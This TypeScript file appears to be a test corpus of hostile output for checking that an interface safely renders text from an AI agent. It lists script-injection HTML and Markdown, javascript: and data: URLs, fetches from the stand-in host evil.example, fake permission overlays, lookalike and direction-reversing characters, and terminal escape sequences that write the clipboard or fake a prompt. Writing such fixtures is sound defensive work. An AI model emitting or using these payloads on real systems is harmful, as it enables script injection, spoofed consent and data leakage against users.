/** What a hostile agent may say: each would run a script, fetch something, hide, or pose as the page if it could. */

const RUN = 'window.ran=(window.ran||0)+1'
const FAR = 'https://evil.example'

// Elements and attributes that run something, or fetch something, where HTML is taken as HTML.
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${FAR}/a.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${FAR}/pixel.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${FAR}/a.swf"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href="${FAR}/a.css">`,
  `<style>@import url(${FAR}/a.css);body{display:none}</style>`,
  `<base href="${FAR}/">`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<form action="${FAR}"><button>Allow</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src="${FAR}/a.mp3" autoplay>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<div style="background:url(${FAR}/a.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:white">Allow?</div>`,
  `<dialog open>Allow everything? <button>Yes</button></dialog>`,
  `<x-y is="script">${RUN}</x-y>`,
  `<isindex type=image src=1 onerror="${RUN}">`,
] as const

// Addresses that a link or an image must not have.
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload="${RUN}" xmlns="http://www.w3.org/2000/svg"/>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+`,
  `blob:${FAR}/1`,
  `file:///etc/passwd`,
  `ftp://evil.example/x`,
  `//evil.example/x.png`,
  `${FAR}/x.png`,
  `http://xn--pple-43d.com/`,
  `https://user:password@evil.example/`,
  `https://gооgle.com/`,
  `view-source:${FAR}`,
  `intent://evil#Intent;scheme=http;end`,
  `about:blank#${RUN}`,
] as const

const asLink = (address: string): string => `[click](${address})`
const asImage = (address: string): string => `![picture](${address})`
const asReference = (address: string): string => `[click][1]\n\n[1]: ${address}\n`
const asAutolink = (address: string): string => `<${address}>`

// Markdown that goes wrong in careless hands.
const MARKDOWN = [
  `[a](<javascript:${RUN}>)`,
  `[a](x "onmouseover='${RUN}'")`,
  `![a](x "onerror='${RUN}'")`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | ${asLink(`javascript:${RUN}`)} |`,
  `- [ ] <script>${RUN}</script>`,
  `> <script>${RUN}</script>`,
  `# <script>${RUN}</script>`,
  `**<script>${RUN}</script>**`,
  `\\<script>${RUN}\\</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `[^1]\n\n[^1]: <script>${RUN}</script>`,
  `<div>\n\n${asLink(`javascript:${RUN}`)}\n\n</div>`,
  `${'> '.repeat(500)}deep`,
  `${'- '.repeat(500)}deep`,
  `${'['.repeat(2_000)}${']'.repeat(2_000)}`,
  `${'*'.repeat(5_000)}`,
  `${'`'.repeat(4_000)}`,
  `${'a'.repeat(100_000)}`,
  `[x](${'a'.repeat(20_000)})`,
] as const

// Characters that turn, hide, join, or pose as others.
const CHARACTERS = [
  'user\u202etxt.exe',
  '\u2066\u2067\u2068reversed\u2069',
  'zero\u200bwidth\u200c\u200djoin\ufeff',
  '\u00adsoft\u00adhyphen',
  'tag\u{e0041}\u{e0042}s',
  'Z\u0351\u0310\u036d'.repeat(200),
  '\u0000\u0001\u0007\u0008\u001b\u007f\u009b',
  'аllow (Cyrillic a)',
  'line\u2028separator\u2029paragraph',
  '\ud800 lone',
  '\u3164\u115f\u1160 blank letters',
  '\u0600\u06dd\u070f format',
  '𝐀𝐥𝐥𝐨𝐰',
  '⁦⁩',
  '\uff1cscript\uff1e',
  'A'.repeat(5_000),
] as const

// What terminals may be told to do.
const SEQUENCES = [
  '\u001b]0;owned\u0007',
  `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007`,
  `\u001b]8;;${FAR}\u001b\\link\u001b]8;;\u001b\\`,
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b]1337;File=inline=1:AAAA\u0007',
  '\u001b]4;0;rgb:ff/ff/ff\u0007',
  '\u001b]10;?\u0007\u001b]11;?\u0007',
  '\u001bP$q"p\u001b\\',
  '\u001bP+q544e\u001b\\',
  '\u001bPq#0;2;0;0;0~~\u001b\\',
  '\u001b_Gf=100;AAAA\u001b\\',
  '\u001b^private\u001b\\',
  '\u001b[8;1000;1000t',
  '\u001b[21t\u001b[20t\u001b[14t',
  '\u001b[c\u001b[>c\u001b[5n\u001b[6n',
  '\u001b[2J\u001b[3J\u001b[H',
  '\u001b[?1049h\u001b[?1000h\u001b[?2004h',
  '\u001b[999999999b',
  '\u009d0;owned\u009c',
  '\u001b]0;never ended',
  '\u001b[38;2;255;255;255;48;2;255;255;255mhidden',
  '\r\u001b[K$ all is well',
] as const

/** All of them, each once. */
export const payloads: readonly string[] = [
  ...ELEMENTS,
  ...ELEMENTS.map(element => `text before ${element} and behind`),
  ...ELEMENTS.map(element => `- a list\n\n  ${element}\n`),
  ...ADDRESSES.flatMap(address => [
    asLink(address),
    asImage(address),
    asReference(address),
    asAutolink(address),
  ]),
  ...MARKDOWN,
  ...CHARACTERS,
  ...SEQUENCES,
  ...SEQUENCES.map(sequence => `\`\`\`\n${sequence}\n\`\`\``),
]
